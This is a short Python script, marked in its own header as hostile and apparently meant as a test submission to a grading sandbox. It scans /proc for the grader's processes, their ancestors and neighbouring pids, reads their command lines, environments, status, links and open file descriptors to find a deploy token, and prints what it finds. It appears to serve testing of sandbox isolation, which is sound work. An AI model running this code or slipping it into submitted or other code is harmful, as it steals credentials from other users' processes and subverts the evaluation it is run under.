# Hostile: reads other processes' /proc entries, where an instructor's programs keep their command
# lines (a deploy token given as an argument) and environments (a token in a variable): a process of the
# grading account whose pid it is told, its parent and every ancestor it can find, every process /proc
# lists, and every pid from that process's to its own (the grader started in between). Prints what it
# reads. The right Functions follow.
import os

VICTIM = int("__VICTIM__")
first = [VICTIM, os.getppid()]  # what it looks at first, so that its findings come first in its output
pid = os.getppid()
for _ in range(8):  # up the tree: the clean parent, the grader, what started it
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        first.append(pid)
    except (OSError, ValueError, IndexError) as error:
        print("no parent of", pid, type(error).__name__)
        break
others = set(range(VICTIM, min(os.getpid(), VICTIM + 30000)))
try:
    others.update(int(p) for p in os.listdir("/proc") if p.isdigit())
except OSError as error:
    print("no process list:", type(error).__name__)
read, refused = [], 0
for pid in dict.fromkeys(first + sorted(others - set(first) - {os.getpid()})):
    for name in ("cmdline", "environ", "status"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                read.append(f"{pid}/{name}: " + f.read(300).replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            refused += 1
    for name in ("cwd", "root", "exe"):
        try:
            read.append(f"{pid}/{name} -> {os.readlink(f'/proc/{pid}/{name}')}")
        except OSError:
            refused += 1
    try:
        read.append(f"{pid}/fd: {os.listdir(f'/proc/{pid}/fd')}")
    except OSError:
        refused += 1
print("refused", refused, "read", len(read))
for line in read:
    print("READ", line)
